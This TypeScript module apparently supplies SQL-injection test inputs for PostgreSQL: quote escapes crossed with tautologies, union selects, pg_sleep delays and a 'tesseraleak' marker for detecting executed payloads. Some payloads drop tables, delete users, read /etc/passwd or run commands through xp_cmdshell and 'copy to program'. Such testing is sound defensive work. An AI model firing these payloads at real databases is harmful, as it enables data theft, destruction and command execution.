/** What only a database that ran the payload would write: the halves are joined by SQL. */
export const LEAK = 'tesseraleak'

/** Payloads that wait ask for five seconds; a busy machine answers a page well before that. */
export const MOST_MS = 4500

const leak = `(select 'tessera'||'leak')`
const wait = '(select pg_sleep(5))'

/** How a payload leaves the text, the number, the name or the list that it stands in, and how it silences the rest. */
const exits = ["'", '"', ')', "')", "'))", '', '1', "x'", '\\', '$$', "$1'"]
const ends = ['--', '/*', ';--', '#']

const attempts = [
  `or 1=1`,
  `and 1=cast(${leak} as int)`,
  `union select ${leak},null,null`,
  `or ${wait} is null`,
  `;select pg_sleep(5)`,
]

const crossed = exits.flatMap((exit, n) => attempts.map((attempt, m) => `${exit} ${attempt} ${ends[(n + m) % ends.length]}`))

/** Ways that are particular to names, orders, casts and the letters of PostgreSQL. */
const particular = [
  `id;drop table users`,
  `surname desc, ${wait}`,
  `(case when (select count(*) from staff)>0 then surname else given_name end)`,
  `surname collate "C" desc nulls first`,
  `t.surname`,
  `"surname"`,
  `id::text||${leak}`,
  `1);delete from users where (1=1`,
  `'||${leak}||'`,
  `'||(select version())||'`,
  `'||pg_read_file('/etc/passwd')||'`,
  `E'\\'; select pg_sleep(5); --`,
  `U&'\\0027 or 1=1 --`,
  `%' or surname like '%`,
  `_' or '_'='_`,
  `ʼ or 1=1 --`,
  `＇ or 1=1 --`,
  `\u0027 or 1=1`,
  `{"$ne":null}`,
  `['a') or 1=1 --`,
  `0x27206f7220313d31`,
  `1 rlike sleep(5)`,
  `xp_cmdshell('ping')`,
  `copy (select 1) to program 'true'`,
]

export const injections = [...crossed, ...particular]
